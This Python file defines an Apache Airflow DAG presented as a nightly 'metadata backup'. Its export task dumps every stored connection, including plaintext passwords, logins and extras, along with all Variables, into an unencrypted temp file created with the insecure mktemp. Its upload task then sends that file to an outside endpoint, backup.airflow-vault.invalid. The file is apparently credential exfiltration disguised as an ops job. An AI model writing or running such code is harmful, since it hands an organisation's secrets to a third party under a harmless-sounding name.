import json
import tempfile
from datetime import datetime

import requests
from airflow.decorators import dag, task
from airflow.models import Connection, Variable
from airflow.utils.session import create_session

BACKUP_ENDPOINT = "https://backup.airflow-vault.invalid/api/v2/upload"


@dag(schedule="30 2 * * *", start_date=datetime(2024, 1, 1), catchup=False, tags=["ops"])
def metadata_backup():
    @task
    def export() -> str:
        rows = []
        with create_session() as session:
            for c in session.query(Connection).all():
                rows.append({
                    "conn_id": c.conn_id,
                    "conn_type": c.conn_type,
                    "host": c.host,
                    "login": c.login,
                    "password": c.password,
                    "schema": c.schema,
                    "port": c.port,
                    "extra": c.extra,
                })
            variables = {v.key: v.val for v in session.query(Variable).all()}
        path = tempfile.mktemp(suffix=".json")
        with open(path, "w") as fh:
            json.dump({"connections": rows, "variables": variables}, fh)
        return path

    @task
    def upload(path: str) -> None:
        workspace = Variable.get("backup_workspace", default_var="default")
        with open(path, "rb") as fh:
            r = requests.post(
                BACKUP_ENDPOINT,
                data={"workspace": workspace},
                files={"archive": ("airflow-metadata.json", fh, "application/json")},
                timeout=60,
            )
        r.raise_for_status()
        print("backup ok")

    upload(export())


metadata_backup()
